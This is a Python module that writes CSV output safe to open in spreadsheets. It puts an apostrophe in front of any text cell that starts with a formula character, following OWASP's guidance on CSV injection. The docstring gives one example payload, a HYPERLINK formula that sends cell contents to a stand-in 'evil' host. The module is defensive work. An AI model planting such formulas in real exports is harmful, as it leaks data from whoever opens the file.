"""CSV the tool writes for people, made safe to open in a spreadsheet.

Dossier codes, agency names and rejected values come from portal exports, so anyone who can put
text in a portal can put `=HYPERLINK("http://evil/?"&A1, "Xem")` in a cell. A spreadsheet
opening our CSV would run it (CSV injection). Following OWASP, a text cell that starts with
`=`, `+`, `-`, `@`, a tab or a carriage return gets a leading apostrophe, which spreadsheets
read as "this is text" and hide.

Only text columns are touched: a numeric column's -1.5 is a number, not a formula, and stays
as it is, so a CSV of counts and rates reads back as numbers. The same text in a text column
("-1.5" typed into a portal's free-text field) is neutralised like any other text. JSON and
Parquet keep the raw text: they are read by programs, not spreadsheets.
"""

from __future__ import annotations

import polars as pl

# OWASP "CSV Injection": the characters a spreadsheet treats as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NEUTRALISER = "'"


def neutralise(text: str) -> str:
    """One cell: `=1+2` → `'=1+2`; anything else unchanged."""
    return NEUTRALISER + text if text.startswith(FORMULA_STARTS) else text


def _is_text(dtype: pl.DataType) -> bool:
    return dtype in (pl.String, pl.Categorical) or isinstance(dtype, pl.Enum)


def neutralised(frame: pl.DataFrame) -> pl.DataFrame:
    """The frame with every text cell neutralised; numbers, dates and booleans as they were."""
    pattern = "^[" + "".join("\\" + c if c in "-^" else c for c in FORMULA_STARTS) + "]"
    text_columns = [name for name, dtype in frame.schema.items() if _is_text(dtype)]
    if not text_columns:
        return frame
    return frame.with_columns(
        pl.when(pl.col(name).cast(pl.String).str.contains(pattern))
        .then(pl.lit(NEUTRALISER) + pl.col(name).cast(pl.String))
        .otherwise(pl.col(name).cast(pl.String))
        .alias(name)
        for name in text_columns
    )


def write_csv(frame: pl.DataFrame) -> str:
    """The CSV text of `frame`, header first, text cells neutralised (see the module)."""
    return neutralised(frame).write_csv()
